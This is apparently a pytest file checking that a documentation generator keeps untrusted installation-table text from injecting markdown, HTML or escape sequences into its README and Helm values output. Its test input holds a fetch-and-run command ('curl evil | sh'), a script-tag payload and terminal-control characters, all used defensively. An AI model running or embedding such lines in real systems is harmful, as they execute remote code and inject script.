"""What a stranger's table says of an installation stays in its place, in the notes and in the values."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from obsgen.cli import main
from obsgen.printable import printable

EVIL = "a\n## Heading\n- `curl evil | sh` <script>alert(1)</script>\x1b[31m\u202e| b ```\n"
BASE = Path(__file__).parents[1] / "diagnostics" / "base"


@pytest.fixture
def built(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    def build(**telling: object) -> dict[str, str]:
        table = {
            "title": EVIL,
            "about": EVIL,
            "docs": EVIL,
            "seen": {"chart": EVIL},
            "rules": [{"switch": EVIL, "groups": [EVIL], "packs": ["queue"], "off": {"a": False}}],
            "alerts": [EVIL],
            "telling": {
                "form": "helm-values",
                "apply": EVIL,
                "steps": [EVIL],
                "also": [{"why": EVIL, "values": {EVIL: 1}}],
                **telling,
            },
        }
        spec = {"extends": ["base.yaml"], "environment": {"installation": {"kind": "evil"}}}
        files = {"packs/installations/evil.yaml": yaml.safe_dump(table), "spec.yaml": yaml.safe_dump(spec)}
        for path in BASE.rglob("*"):
            if path.is_file():
                files.setdefault(str(path.relative_to(BASE)), path.read_text())
        for name, text in files.items():
            (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name).write_text(text)
        monkeypatch.chdir(tmp_path)
        done = CliRunner().invoke(main, ["build", "spec.yaml", "-o", "out"], catch_exceptions=False)
        assert done.exit_code == 0, done.output
        return {path.name: path.read_text() for path in (tmp_path / "out" / "installation").iterdir()}

    return build


def test_no_text_of_a_table_writes_a_line_of_the_notes(built) -> None:
    notes = built()["README.md"]
    lines = notes.splitlines()
    assert printable(notes) == notes
    assert "## Heading" not in lines
    assert not [line for line in lines if line.startswith("- `curl")]
    assert "<script>" not in notes.replace("```sh", "").partition("```")[0]
    assert sum(line == "```" for line in lines) == sum(line == "```sh" for line in lines)


def test_the_values_are_yaml_whatever_a_table_says(built) -> None:
    values = built()["helm-values.yaml"]
    assert printable(values.partition("\n\n")[0])
    assert isinstance(yaml.safe_load(values), dict)
